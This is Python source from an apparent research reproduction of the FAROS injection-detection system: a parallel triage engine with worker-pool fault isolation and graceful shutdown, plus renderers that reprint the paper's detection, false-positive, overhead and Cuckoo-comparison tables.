    # Graceful shutdown: SIGINT/SIGTERM stops dispatching and switches
    # to a bounded drain instead of tearing the pool down mid-flight.
    # Handlers only install on the main thread (signal rules); elsewhere
    # the pool simply never sees the flag, which is the old behavior.
    interrupted = threading.Event()
    previous_handlers = {}
    try:
        for signum in (signal.SIGINT, signal.SIGTERM):
            previous_handlers[signum] = signal.signal(
                signum, lambda *_args: interrupted.set()
            )
    except ValueError:  # pragma: no cover - not on the main thread
        previous_handlers = {}

    def drain() -> None:
        """The SIGINT/SIGTERM path: give in-flight workers a deadline,
        flush what completes, and turn everything else into ERROR rows
        that carry each worker's last published guest state -- partial
        results in submission order instead of a dropped batch."""
        deadline = time.monotonic() + drain_timeout
        while (time.monotonic() < deadline
               and any(w.job is not None for w in workers)):
            busy_conns = [w.conn for w in workers if w.job is not None]
            ready = _connection_wait(
                busy_conns,
                timeout=max(0.0, min(_POLL_INTERVAL,
                                     deadline - time.monotonic())),
            )
            for conn in ready:
                w = next(w for w in workers if w.conn is conn)
                try:
                    result = conn.recv()
                except (EOFError, OSError):
                    # Crashed while draining: no retries during
                    # shutdown, record what we know.
                    results[w.job.job_id] = _error_result(
                        w.job, w.attempt, "worker died during shutdown drain",
                        fault=_kill_fault("Shutdown", "worker died during drain",
                                          w.last_progress()).to_json_dict(),
                    )
                    w.kill()
                    w.job = None
                    continue
                results[result.job_id] = result
                w.finish()
        for w in workers:
            if w.job is None:
                continue
            progress = w.last_progress()
            results[w.job.job_id] = _error_result(
                w.job, w.attempt,
                f"interrupted: shutdown drain deadline ({drain_timeout:g}s) "
                "expired with the job in flight",
                fault=_kill_fault(
                    "Shutdown", "killed at shutdown drain deadline", progress,
                ).to_json_dict(),
            )
            w.kill()
            w.job = None
        for job, attempt, _ready_at in pending:
            results.setdefault(job.job_id, _error_result(
                job, attempt, "interrupted: job was never dispatched",
                fault=FaultRecord(
                    kind="Shutdown", detail="pending at shutdown",
                ).to_json_dict(),
            ))
        pending.clear()

    def next_ready():
        now = time.monotonic()
        for idx, (job, attempt, ready_at) in enumerate(pending):
            if ready_at <= now:
                del pending[idx]
                return job, attempt
        return None

    def requeue(job: TriageJob, attempt: int) -> None:
        delay = retry_backoff * (2 ** (attempt - 2)) if retry_backoff else 0.0
        pending.appendleft((job, attempt, time.monotonic() + delay))

    try:
        while pending or any(w.job is not None for w in workers):
            if interrupted.is_set():
                drain()
                break
            # Dispatch: keep every idle worker fed with ready jobs.
            for i, w in enumerate(workers):
                if w.job is not None:
                    continue
                entry = next_ready()
                if entry is None:
                    break
                job, attempt = entry
                try:
                    w.submit(job, attempt, timeout)
                except (BrokenPipeError, OSError):
                    # Worker died while idle: replace it, keep the job.
                    w.kill()
                    workers[i] = w = _Worker(ctx)
                    w.submit(job, attempt, timeout)
            busy = {w.conn: (i, w) for i, w in enumerate(workers)
                    if w.job is not None}
            now = time.monotonic()
            if busy:
                ready = _connection_wait(
                    list(busy),
                    timeout=_wait_budget([w for _, w in busy.values()], now),
                )
            else:
                # Nothing in flight: everything pending is backing off.
                time.sleep(min(_POLL_INTERVAL, retry_backoff or _POLL_INTERVAL))
                ready = []
            for conn in ready:
                i, w = busy[conn]
                try:
                    result = conn.recv()
                except (EOFError, OSError):
                    # Crash mid-job (the pipe died with the process).
                    job, attempt = w.job, w.attempt
                    exitcode = w.proc.exitcode
                    progress = w.last_progress()
                    w.kill()
                    workers[i] = _Worker(ctx)
                    if attempt > max_retries:
                        results[job.job_id] = _error_result(
                            job, attempt,
                            f"worker died (exit code {exitcode}) on "
                            f"attempt {attempt}/{max_retries + 1}",
                            fault=_kill_fault(
                                "WorkerCrash",
                                f"worker exit code {exitcode}",
                                progress,
                            ).to_json_dict(),
                        )
                    else:
                        requeue(job, attempt + 1)
                else:
                    results[result.job_id] = result
                    w.finish()
            # Enforce per-sample wall-clock deadlines.  Timeouts are
            # terminal (never retried): with a deterministic guest, the
            # re-run would hit the same wall.
            now = time.monotonic()
            for i, w in enumerate(workers):
                if w.job is None or w.deadline is None or now < w.deadline:
                    continue
                job, attempt = w.job, w.attempt
                progress = w.last_progress()
                w.kill()
                workers[i] = _Worker(ctx)
                results[job.job_id] = _error_result(
                    job, attempt,
                    f"timeout: exceeded {timeout:g}s wall clock",
                    duration_s=timeout or 0.0,
                    fault=_kill_fault(
                        "Timeout",
                        f"exceeded {timeout:g}s wall clock",
                        progress,
                    ).to_json_dict(),
                )
    finally:
        for signum, handler in previous_handlers.items():
            signal.signal(signum, handler)
        for w in workers:
            if w.job is not None:
                w.kill()
            else:
                w.close()
    return results


def run_triage(
    jobs_list: Sequence[TriageJob],
    jobs: int = 1,
    timeout: Optional[float] = None,
    max_retries: int = DEFAULT_MAX_RETRIES,
    retry_backoff: float = DEFAULT_RETRY_BACKOFF,
    drain_timeout: float = 5.0,
) -> List[TriageResult]:
    """Execute *jobs_list*, returning one result per job in submission
    order.

    ``jobs=1`` runs everything in-process (no pool, no timeout
    enforcement -- there is no worker to kill).  ``jobs>1`` shards the
    batch over that many worker processes; *timeout* bounds each
    sample's wall clock, *max_retries* bounds re-dispatch after a
    worker crash, and *retry_backoff* is the base delay before a
    crash-retried job is re-dispatched (doubling per extra attempt).
    Only host-transient faults (worker crashes) are retried; timeouts
    and deterministic guest faults (DEGRADED rows) are not.

    On SIGINT/SIGTERM the pool stops dispatching, gives in-flight
    workers *drain_timeout* seconds to finish, and converts whatever
    remains (killed in-flight jobs, never-dispatched pending jobs)
    into ERROR rows with ``Shutdown`` fault records carrying each
    worker's last published guest state -- the batch still comes back
    complete and in submission order.
    """
    if jobs <= 1:
        return [execute_job(job) for job in jobs_list]
    results = _run_pool(jobs_list, jobs, timeout, max_retries, retry_backoff,
                        drain_timeout=drain_timeout)
    return [results[job.job_id] for job in jobs_list]


# ----------------------------------------------------------------------
# batch builders (the experiment runners' job lists)
# ----------------------------------------------------------------------

def _with_metrics(params: Dict[str, Any], metrics: bool,
                  taint_pipeline: Optional[str] = None) -> Dict[str, Any]:
    """Only set the keys when non-default, so descriptors for plain
    runs stay byte-identical to the pre-observability wire format."""
    if metrics:
        params["metrics"] = True
    if taint_pipeline is not None:
        params["taint_pipeline"] = taint_pipeline
    return params


def attack_jobs(names: Sequence[str], metrics: bool = False,
                taint_pipeline: Optional[str] = None) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=name, kind="attack",
                  params=_with_metrics({"attack": name}, metrics,
                                       taint_pipeline))
        for i, name in enumerate(names)
    ]


def jit_jobs(workloads: Sequence[Tuple[str, str]],
             metrics: bool = False,
             taint_pipeline: Optional[str] = None) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=name, kind="jit",
                  params=_with_metrics(
                      {"name": name, "workload": workload}, metrics,
                      taint_pipeline))
        for i, (name, workload) in enumerate(workloads)
    ]


def corpus_jobs(samples: Sequence[SampleSpec],
                metrics: bool = False,
                taint_pipeline: Optional[str] = None) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=spec.name, kind="corpus",
                  params=_with_metrics(spec.job_params(), metrics,
                                       taint_pipeline))
        for i, spec in enumerate(samples)
    ]


def comparison_jobs(cases: Sequence[Tuple[str, bool]],
                    metrics: bool = False,
                    taint_pipeline: Optional[str] = None) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=attack, kind="comparison",
                  params=_with_metrics(
                      {"attack": attack, "transient": transient}, metrics,
                      taint_pipeline))
        for i, (attack, transient) in enumerate(cases)
    ]
