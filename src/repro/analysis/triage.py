"""Parallel batch-triage engine with fault isolation.

The paper's evaluation (§VI, Tables II-V) analyses 100+ samples one at
a time; at production scale a triage fleet must run many analyses
concurrently and survive individual samples wedging or crashing.  This
module provides that layer:

* a **work unit** is a :class:`TriageJob` -- a picklable descriptor
  (kind + builder kwargs, never live machines/scenarios) that a worker
  resolves against :data:`JOB_KINDS` and executes via the deterministic
  record/replay substrate;
* :func:`run_triage` shards jobs across a ``multiprocessing`` worker
  pool with a per-sample wall-clock **timeout** and **bounded retry**
  on worker crash -- a sample that times out, or whose worker dies on
  every attempt, becomes an ``ERROR`` :class:`TriageResult` row while
  the rest of the batch completes;
* every outcome is a serializable :class:`TriageResult` (verdict,
  provenance-chain summary, exit code, timings, tracker stats) so the
  cross-process result channel is plain data, and the aggregator
  returns results in **submission order** -- parallel output is
  byte-identical to serial.

``jobs=1`` short-circuits to an in-process serial loop (no pool is
spawned); because both paths run the same :func:`execute_job` code on
the same job descriptors, verdicts and rendered tables cannot drift
between them.  See ``docs/triage_engine.md``.
"""

from __future__ import annotations

import importlib
import multiprocessing
import operator
import os
import time
from collections import deque
from contextlib import nullcontext
from dataclasses import dataclass, field
from functools import partial
from multiprocessing.connection import wait as _connection_wait
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

from repro.attacks import (
    build_bypassuac_injection_scenario,
    build_code_injection_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.baselines import CuckooSandbox
from repro.emulator.record_replay import record, replay
from repro.faros import Faros
from repro.faros.report import ProvenanceChain, ReportSummary
from repro.obs.session import ObsSession
from repro.workloads.corpus import SampleSpec
from repro.workloads.jit import build_jit_scenario

STATUS_OK = "OK"
STATUS_ERROR = "ERROR"

#: Retry budget: a job may be re-dispatched this many times after a
#: worker crash before it is written off as an ``ERROR`` row (so the
#: default of 1 means "crashes twice -> ERROR").
DEFAULT_MAX_RETRIES = 1

_POLL_INTERVAL = 0.1


# ----------------------------------------------------------------------
# job descriptors and results (the cross-process wire format)
# ----------------------------------------------------------------------

@dataclass(frozen=True)
class TriageJob:
    """One picklable work unit: a builder name + kwargs, no live objects."""

    job_id: int
    name: str
    kind: str
    params: Dict[str, Any] = field(default_factory=dict)


@dataclass
class JobOutcome:
    """What a job-kind runner returns from inside the worker."""

    verdict: bool
    exit_code: Optional[int] = None
    report: Optional[dict] = None
    instructions: int = 0
    tainted_bytes: int = 0
    extra: Dict[str, Any] = field(default_factory=dict)
    #: Observability snapshot (``ObsSession.snapshot``) when the job ran
    #: with ``metrics=True``; plain data, so it survives the pipe.
    metrics: Optional[dict] = None


@dataclass
class TriageResult:
    """Serializable outcome of one job (OK or ERROR, never an exception)."""

    job_id: int
    name: str
    kind: str
    status: str
    verdict: bool
    error: Optional[str] = None
    exit_code: Optional[int] = None
    duration_s: float = 0.0
    attempts: int = 1
    worker_pid: int = 0
    instructions: int = 0
    tainted_bytes: int = 0
    report: Optional[dict] = None
    extra: Dict[str, Any] = field(default_factory=dict)
    metrics: Optional[dict] = None

    @property
    def ok(self) -> bool:
        return self.status == STATUS_OK

    def chains(self) -> List[ProvenanceChain]:
        """Provenance chains reconstructed from the serialized report."""
        if not self.report:
            return []
        return ReportSummary.from_json_dict(self.report).chains

    def to_json_dict(self) -> dict:
        """JSON-shaped result row; inverse of :meth:`from_json_dict`."""
        return {
            "job_id": self.job_id,
            "name": self.name,
            "kind": self.kind,
            "status": self.status,
            "verdict": self.verdict,
            "error": self.error,
            "exit_code": self.exit_code,
            "duration_s": self.duration_s,
            "attempts": self.attempts,
            "worker_pid": self.worker_pid,
            "instructions": self.instructions,
            "tainted_bytes": self.tainted_bytes,
            "report": self.report,
            "extra": dict(self.extra),
            "metrics": self.metrics,
        }

    @classmethod
    def from_json_dict(cls, d: dict) -> "TriageResult":
        return cls(
            **{k: d[k] for k in (
                "job_id", "name", "kind", "status", "verdict", "error",
                "exit_code", "duration_s", "attempts", "worker_pid",
                "instructions", "tainted_bytes", "report", "extra",
            )},
            metrics=d.get("metrics"),  # absent in pre-observability dicts
        )

    def to_dict(self) -> dict:
        """Deprecated alias of :meth:`to_json_dict`."""
        import warnings

        warnings.warn(
            "TriageResult.to_dict is deprecated; use to_json_dict",
            DeprecationWarning, stacklevel=2,
        )
        return self.to_json_dict()

    @classmethod
    def from_dict(cls, d: dict) -> "TriageResult":
        """Deprecated alias of :meth:`from_json_dict`."""
        import warnings

        warnings.warn(
            "TriageResult.from_dict is deprecated; use from_json_dict",
            DeprecationWarning, stacklevel=2,
        )
        return cls.from_json_dict(d)


# ----------------------------------------------------------------------
# job kinds (resolved by name inside the worker)
# ----------------------------------------------------------------------

JOB_KINDS: Dict[str, Callable[..., JobOutcome]] = {}


def job_kind(name: str):
    """Register a runner under *name* so job descriptors can refer to it."""

    def deco(fn):
        JOB_KINDS[name] = fn
        return fn

    return deco


#: Attack-scenario builders by name (the §VI attack roster).  Every
#: builder accepts ``transient=`` so the comparison matrix can reuse it.
ATTACK_BUILDER_REGISTRY: Dict[str, Callable[..., Any]] = {
    "reflective_dll_inject": build_reflective_dll_scenario,
    "reverse_tcp_dns": build_reverse_tcp_dns_scenario,
    "bypassuac_injection": build_bypassuac_injection_scenario,
    "process_hollowing": build_process_hollowing_scenario,
    "code_injection": build_code_injection_scenario,
    "darkcomet_injection": partial(build_code_injection_scenario, rat="darkcomet"),
    "njrat_injection": partial(build_code_injection_scenario, rat="njrat"),
}


def _faros_outcome(faros: Faros, exit_code: Optional[int] = None,
                   extra: Optional[Dict[str, Any]] = None,
                   include_report: bool = True,
                   session: Optional[ObsSession] = None) -> JobOutcome:
    with session.span("report") if session is not None else nullcontext():
        report = faros.report()
        report_dict = report.to_json_dict() if include_report else None
    # One snapshot per job, taken after the report span closes, injected
    # into both the report export and the outcome: ``repro stats`` and
    # the triage JSON channel must show the *same* numbers.
    snap = None
    if session is not None and session.enabled:
        snap = session.snapshot()
        if report_dict is not None:
            report_dict["metrics"] = snap
    return JobOutcome(
        verdict=faros.attack_detected,
        exit_code=exit_code,
        report=report_dict,
        instructions=faros.tracker.stats.instructions,
        tainted_bytes=faros.tracker.shadow.tainted_bytes,
        extra=extra or {},
        metrics=snap,
    )


@job_kind("attack")
def _run_attack_job(attack: str, transient: bool = False,
                    metrics: bool = False, sample_every: int = 1,
                    top_blocks: int = 10) -> JobOutcome:
    """Record/replay one attack scenario with FAROS attached (§V-C)."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every,
                                top_blocks=top_blocks)
    with session.span("boot"):
        builder = ATTACK_BUILDER_REGISTRY[attack]
        scenario = builder(transient=True) if transient else builder()
    with session.span("attack"):
        recording = record(scenario.scenario)
    faros = Faros(metrics=session.registry)
    with session.span("detection"):
        replay(recording, plugins=session.plugins_for(faros),
               metrics=session.registry)
    return _faros_outcome(faros, session=session)


@job_kind("jit")
def _run_jit_job(name: str, workload: str,
                 metrics: bool = False, sample_every: int = 1) -> JobOutcome:
    """One Table III JIT workload (Java applet or AJAX site)."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    with session.span("boot"):
        sample = build_jit_scenario(name, workload)
    faros = Faros(metrics=session.registry)
    with session.span("detection"):
        sample.scenario.run(plugins=session.plugins_for(faros),
                            metrics=session.registry)
    return _faros_outcome(
        faros,
        include_report=faros.attack_detected,
        extra={"workload": workload,
               "expected_flag": sample.uses_native_binding},
        session=session,
    )


@job_kind("corpus")
def _run_corpus_job(metrics: bool = False, sample_every: int = 1,
                    **params) -> JobOutcome:
    """One Table IV corpus sample, rebuilt from its picklable spec."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    with session.span("boot"):
        spec = SampleSpec.from_params(**params)
    faros = Faros(metrics=session.registry)
    with session.span("detection"):
        machine = spec.scenario().run(plugins=session.plugins_for(faros),
                                      metrics=session.registry)
    proc = next(iter(machine.kernel.processes.values()))
    return _faros_outcome(
        faros,
        exit_code=proc.exit_code,
        include_report=faros.attack_detected,
        extra={"family": spec.family, "benign": spec.benign},
        session=session,
    )


@job_kind("comparison")
def _run_comparison_job(attack: str, transient: bool = False,
                        metrics: bool = False, sample_every: int = 1) -> JobOutcome:
    """One §VI-B row: the same attack under FAROS, Cuckoo, and malfind."""
    session = ObsSession.create(enabled=metrics, sample_every=sample_every)
    with session.span("boot"):
        builder = ATTACK_BUILDER_REGISTRY[attack]
        attack_obj = builder(transient=transient)
    faros = Faros(metrics=session.registry)
    with session.span("detection"):
        attack_obj.scenario.run(plugins=session.plugins_for(faros),
                                metrics=session.registry)
    chains = faros.report().chains()
    chain = chains[0] if chains else None

    with session.span("baselines"):
        cuckoo_report = CuckooSandbox().analyze(attack_obj.scenario)
        malfind_detected, _hits = cuckoo_report.detect_injection_with_malfind()
    return _faros_outcome(
        faros,
        extra={
            "transient": transient,
            "has_netflow": bool(chain and chain.netflow),
            "has_provenance": bool(chain and chain.process_chain),
            "cuckoo_detects": cuckoo_report.detect_injection(),
            "malfind_detects": malfind_detected,
        },
        session=session,
    )


@job_kind("pyfunc")
def _run_pyfunc_job(target: str, kwargs: Optional[dict] = None) -> JobOutcome:
    """Run ``module:qualname`` with *kwargs* -- the extensibility escape
    hatch (and the fault-injection hook the test suite uses)."""
    modname, _, qualname = target.partition(":")
    fn = operator.attrgetter(qualname)(importlib.import_module(modname))
    value = fn(**(kwargs or {}))
    if isinstance(value, JobOutcome):
        return value
    return JobOutcome(verdict=bool(value))


# ----------------------------------------------------------------------
# job execution (shared by the serial path and the workers)
# ----------------------------------------------------------------------

def _error_result(job: TriageJob, attempts: int, reason: str,
                  duration_s: float = 0.0) -> TriageResult:
    return TriageResult(
        job_id=job.job_id, name=job.name, kind=job.kind,
        status=STATUS_ERROR, verdict=False, error=reason,
        duration_s=duration_s, attempts=attempts, worker_pid=os.getpid(),
    )


def execute_job(job: TriageJob, attempt: int = 1) -> TriageResult:
    """Run one job to a :class:`TriageResult`; exceptions become ERROR
    rows (graceful degradation), never propagate."""
    start = time.perf_counter()
    try:
        runner = JOB_KINDS[job.kind]
    except KeyError:
        return _error_result(job, attempt, f"unknown job kind {job.kind!r}")
    try:
        outcome = runner(**job.params)
    except Exception as exc:  # fault isolation: one bad sample != a dead run
        return _error_result(
            job, attempt, f"{type(exc).__name__}: {exc}",
            duration_s=time.perf_counter() - start,
        )
    return TriageResult(
        job_id=job.job_id, name=job.name, kind=job.kind,
        status=STATUS_OK, verdict=outcome.verdict,
        exit_code=outcome.exit_code,
        duration_s=time.perf_counter() - start,
        attempts=attempt, worker_pid=os.getpid(),
        instructions=outcome.instructions,
        tainted_bytes=outcome.tainted_bytes,
        report=outcome.report, extra=outcome.extra,
        metrics=outcome.metrics,
    )


# ----------------------------------------------------------------------
# the worker pool
# ----------------------------------------------------------------------

def _mp_context():
    """Fork where available (cheap workers, inherited registries);
    spawn otherwise -- job kinds resolve by import either way."""
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX hosts
        return multiprocessing.get_context("spawn")


def _worker_main(conn) -> None:
    """Worker loop: receive (job, attempt), send back a TriageResult."""
    while True:
        try:
            msg = conn.recv()
        except (EOFError, OSError, KeyboardInterrupt):
            return
        if msg is None:
            return
        job, attempt = msg
        result = execute_job(job, attempt=attempt)
        try:
            conn.send(result)
        except (BrokenPipeError, OSError):
            return


class _Worker:
    """One pool member: a process plus the pipe the parent drives it by.

    The parent hands a worker exactly one job at a time, so when the
    process dies or overruns its deadline the parent knows precisely
    which job was in flight.
    """

    def __init__(self, ctx) -> None:
        self.conn, child = ctx.Pipe()
        self.proc = ctx.Process(target=_worker_main, args=(child,), daemon=True)
        self.proc.start()
        child.close()
        self.job: Optional[TriageJob] = None
        self.attempt = 0
        self.deadline: Optional[float] = None

    def submit(self, job: TriageJob, attempt: int,
               timeout: Optional[float]) -> None:
        self.conn.send((job, attempt))
        self.job, self.attempt = job, attempt
        self.deadline = time.monotonic() + timeout if timeout else None

    def finish(self) -> None:
        self.job, self.attempt, self.deadline = None, 0, None

    def kill(self) -> None:
        try:
            self.proc.kill()
            self.proc.join(timeout=5.0)
        finally:
            self.conn.close()

    def close(self) -> None:
        try:
            self.conn.send(None)
            self.conn.close()
            self.proc.join(timeout=1.0)
        except (BrokenPipeError, OSError):
            pass
        if self.proc.is_alive():  # pragma: no cover - stuck shutdown
            self.proc.kill()
            self.proc.join(timeout=1.0)


def _wait_budget(workers: Sequence[_Worker], now: float) -> float:
    deadlines = [w.deadline - now for w in workers if w.deadline is not None]
    if not deadlines:
        return _POLL_INTERVAL
    return max(0.0, min(min(deadlines), _POLL_INTERVAL))


def _run_pool(jobs_list: Sequence[TriageJob], jobs: int,
              timeout: Optional[float], max_retries: int) -> Dict[int, TriageResult]:
    ctx = _mp_context()
    pending = deque((job, 1) for job in jobs_list)
    results: Dict[int, TriageResult] = {}
    workers = [_Worker(ctx) for _ in range(max(1, min(jobs, len(jobs_list))))]
    try:
        while pending or any(w.job is not None for w in workers):
            # Dispatch: keep every idle worker fed.
            for i, w in enumerate(workers):
                if w.job is None and pending:
                    job, attempt = pending.popleft()
                    try:
                        w.submit(job, attempt, timeout)
                    except (BrokenPipeError, OSError):
                        # Worker died while idle: replace it, keep the job.
                        w.kill()
                        workers[i] = w = _Worker(ctx)
                        w.submit(job, attempt, timeout)
            busy = {w.conn: (i, w) for i, w in enumerate(workers)
                    if w.job is not None}
            now = time.monotonic()
            ready = _connection_wait(
                list(busy), timeout=_wait_budget([w for _, w in busy.values()], now)
            )
            for conn in ready:
                i, w = busy[conn]
                try:
                    result = conn.recv()
                except (EOFError, OSError):
                    # Crash mid-job (the pipe died with the process).
                    job, attempt = w.job, w.attempt
                    exitcode = w.proc.exitcode
                    w.kill()
                    workers[i] = _Worker(ctx)
                    if attempt > max_retries:
                        results[job.job_id] = _error_result(
                            job, attempt,
                            f"worker died (exit code {exitcode}) on "
                            f"attempt {attempt}/{max_retries + 1}",
                        )
                    else:
                        pending.appendleft((job, attempt + 1))
                else:
                    results[result.job_id] = result
                    w.finish()
            # Enforce per-sample wall-clock deadlines.
            now = time.monotonic()
            for i, w in enumerate(workers):
                if w.job is None or w.deadline is None or now < w.deadline:
                    continue
                job, attempt = w.job, w.attempt
                w.kill()
                workers[i] = _Worker(ctx)
                results[job.job_id] = _error_result(
                    job, attempt,
                    f"timeout: exceeded {timeout:g}s wall clock",
                    duration_s=timeout or 0.0,
                )
    finally:
        for w in workers:
            if w.job is not None:
                w.kill()
            else:
                w.close()
    return results


def run_triage(
    jobs_list: Sequence[TriageJob],
    jobs: int = 1,
    timeout: Optional[float] = None,
    max_retries: int = DEFAULT_MAX_RETRIES,
) -> List[TriageResult]:
    """Execute *jobs_list*, returning one result per job in submission
    order.

    ``jobs=1`` runs everything in-process (no pool, no timeout
    enforcement -- there is no worker to kill).  ``jobs>1`` shards the
    batch over that many worker processes; *timeout* bounds each
    sample's wall clock and *max_retries* bounds re-dispatch after a
    worker crash.
    """
    if jobs <= 1:
        return [execute_job(job) for job in jobs_list]
    results = _run_pool(jobs_list, jobs, timeout, max_retries)
    return [results[job.job_id] for job in jobs_list]


# ----------------------------------------------------------------------
# batch builders (the experiment runners' job lists)
# ----------------------------------------------------------------------

def _with_metrics(params: Dict[str, Any], metrics: bool) -> Dict[str, Any]:
    """Only set the key when telemetry is on, so descriptors for plain
    runs stay byte-identical to the pre-observability wire format."""
    if metrics:
        params["metrics"] = True
    return params


def attack_jobs(names: Sequence[str], metrics: bool = False) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=name, kind="attack",
                  params=_with_metrics({"attack": name}, metrics))
        for i, name in enumerate(names)
    ]


def jit_jobs(workloads: Sequence[Tuple[str, str]],
             metrics: bool = False) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=name, kind="jit",
                  params=_with_metrics(
                      {"name": name, "workload": workload}, metrics))
        for i, (name, workload) in enumerate(workloads)
    ]


def corpus_jobs(samples: Sequence[SampleSpec],
                metrics: bool = False) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=spec.name, kind="corpus",
                  params=_with_metrics(spec.job_params(), metrics))
        for i, spec in enumerate(samples)
    ]


def comparison_jobs(cases: Sequence[Tuple[str, bool]],
                    metrics: bool = False) -> List[TriageJob]:
    return [
        TriageJob(job_id=i, name=attack, kind="comparison",
                  params=_with_metrics(
                      {"attack": attack, "transient": transient}, metrics))
        for i, (attack, transient) in enumerate(cases)
    ]
