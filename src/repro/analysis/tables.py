"""ASCII renderers that reprint the paper's tables from our results."""

from __future__ import annotations

from typing import Sequence

from repro.analysis.experiments import (
    AttackVerdict,
    ComparisonRow,
    CorpusResult,
    JitResult,
    OverheadRow,
    fp_rate,
)


def _row_label(r) -> str:
    name = getattr(r, "name", None) or getattr(r, "attack", None)
    if name is None and getattr(r, "sample", None) is not None:
        name = r.sample.name
    return name or "?"


def _error_lines(rows: Sequence) -> list:
    """Triage failures, one line each (empty when the batch was clean)."""
    return [
        f"ERROR: {_row_label(r)}: {r.error}"
        for r in rows
        if getattr(r, "error", None)
    ]


def render_detection_suite(results: Sequence[AttackVerdict]) -> str:
    """The §VI headline: six attacks, six flags, with provenance."""
    lines = [
        "Detection of in-memory injection attacks (paper: 6/6 flagged)",
        f"{'attack':<24} {'flagged':<8} {'netflow in chain':<17} process chain",
    ]
    for r in results:
        chain = r.chain
        flagged = "ERROR" if getattr(r, "error", None) else str(r.detected)
        netflow = chain.netflow if chain and chain.netflow else "-"
        processes = " -> ".join(chain.process_chain) if chain else "-"
        lines.append(f"{r.name:<24} {flagged:<8} {netflow:<17} {processes}")
    detected = sum(r.detected for r in results)
    lines.extend(_error_lines(results))
    lines.append(f"TOTAL: {detected}/{len(results)} flagged")
    return "\n".join(lines)


def render_table3(results: Sequence[JitResult]) -> str:
    """Table III: Java applets and AJAX websites, with flags."""
    applets = [r for r in results if r.kind == "applet"]
    ajax = [r for r in results if r.kind == "ajax"]
    lines = [
        "Table III -- JIT workloads (paper: 2 applets flagged, 10% of applets)",
        f"{'Java Applets':<22} {'flag':<6} {'AJAX websites':<22} {'flag':<6}",
    ]
    for i in range(max(len(applets), len(ajax))):
        a = applets[i] if i < len(applets) else None
        j = ajax[i] if i < len(ajax) else None
        lines.append(
            f"{a.name if a else '':<22} {('X' if a and a.flagged else ''):<6} "
            f"{j.name if j else '':<22} {('X' if j and j.flagged else ''):<6}"
        )
    flagged = sum(r.flagged for r in results)
    lines.extend(_error_lines(results))
    lines.append(
        f"flagged: {flagged}/{len(results)} "
        f"({fp_rate(flagged, len(results)):.0f}% of the JIT set)"
    )
    return "\n".join(lines)


#: Table IV's behaviour columns, in the paper's order.
_TABLE4_COLUMNS = (
    ("Idle", "idle"),
    ("Run", "run"),
    ("Audio Record", "audio_record"),
    ("File Transfer", "file_transfer"),
    ("Key logger", "keylogger"),
    ("Remote Desktop", "remote_desktop"),
    ("Upload", "upload"),
    ("Download", "download"),
    ("Remote Shell", "remote_shell"),
)


def render_table4_matrix(results: Sequence[CorpusResult]) -> str:
    """Table IV in the paper's checkmark-matrix form."""
    header = f"{'Program':<22}" + "".join(f"{name:<15}" for name, _ in _TABLE4_COLUMNS)
    lines = [
        "Table IV -- FP analysis dataset: behaviours per sample "
        "(X = behaviour present; paper: 0 samples flagged)",
        header,
    ]
    seen = set()
    section = None
    for r in results:
        if r.sample.family in seen:
            continue
        seen.add(r.sample.family)
        kind = "Benign software" if r.sample.benign else "Real-world malware"
        if kind != section:
            section = kind
            lines.append(f"--- {section} ---")
        behaviors = set(r.sample.behaviors)
        # The snipping tool's screenshot maps onto no Table IV column;
        # it renders as its closest column (Remote Desktop-style capture).
        if "screenshot" in behaviors:
            behaviors.add("remote_desktop")
        cells = "".join(
            f"{'X' if key in behaviors else '':<15}" for _name, key in _TABLE4_COLUMNS
        )
        lines.append(f"{r.sample.family:<22}{cells}")
    flagged = sum(r.flagged for r in results)
    lines.append(
        f"samples: {len(results)}; flagged: {flagged} "
        f"({fp_rate(flagged, len(results)):.1f}% false positives)"
    )
    return "\n".join(lines)


def render_table4(results: Sequence[CorpusResult]) -> str:
    """Table IV: the corpus roster with behaviours and flags."""
    lines = [
        "Table IV -- non-injecting corpus (paper: 0% false positives)",
        f"{'sample':<26} {'class':<8} {'behaviours':<58} flag",
    ]
    families_seen = set()
    for r in results:
        # One row per family (the table lists families; samples are variants).
        if r.sample.family in families_seen:
            continue
        families_seen.add(r.sample.family)
        kind = "benign" if r.sample.benign else "malware"
        behaviours = ", ".join(r.sample.behaviors)
        lines.append(
            f"{r.sample.family:<26} {kind:<8} {behaviours:<58} "
            f"{'X' if r.flagged else ''}"
        )
    flagged = sum(r.flagged for r in results)
    lines.extend(_error_lines(results))
    lines.append(
        f"samples: {len(results)} "
        f"(malware {sum(1 for r in results if not r.sample.benign)}, "
        f"benign {sum(1 for r in results if r.sample.benign)}); "
        f"false positives: {flagged} ({fp_rate(flagged, len(results)):.1f}%)"
    )
    return "\n".join(lines)


def render_table5(rows: Sequence[OverheadRow]) -> str:
    """Table V: replay time with/without FAROS and the slowdown factor."""
    lines = [
        "Table V -- FAROS overhead (paper: 7-20x vs replay, avg 14x; shape,"
        " not absolutes, is the claim)",
        f"{'Application':<16} {'replay (s)':<12} {'w/ FAROS (s)':<13} "
        f"{'X overhead':<11} instructions",
    ]
    for row in rows:
        lines.append(
            f"{row.application:<16} {row.replay_seconds:<12.4f} "
            f"{row.faros_seconds:<13.4f} {row.slowdown:<11.1f} {row.instructions}"
        )
    if rows:
        avg = sum(r.slowdown for r in rows) / len(rows)
        lines.append(f"average slowdown: {avg:.1f}x")
    return "\n".join(lines)


def render_comparison_matrix(rows: Sequence[ComparisonRow]) -> str:
    """§VI-B: FAROS vs Cuckoo vs Cuckoo+malfind."""
    lines = [
        "Comparison with CuckooBox (§VI-B)",
        f"{'attack':<24} {'transient':<10} {'FAROS':<7} {'netflow':<9} "
        f"{'provenance':<11} {'Cuckoo':<8} Cuckoo+malfind",
    ]
    for r in rows:
        lines.append(
            f"{r.attack:<24} {str(r.transient):<10} {str(r.faros_detects):<7} "
            f"{str(r.faros_has_netflow):<9} {str(r.faros_has_provenance):<11} "
            f"{str(r.cuckoo_detects):<8} {r.malfind_detects}"
        )
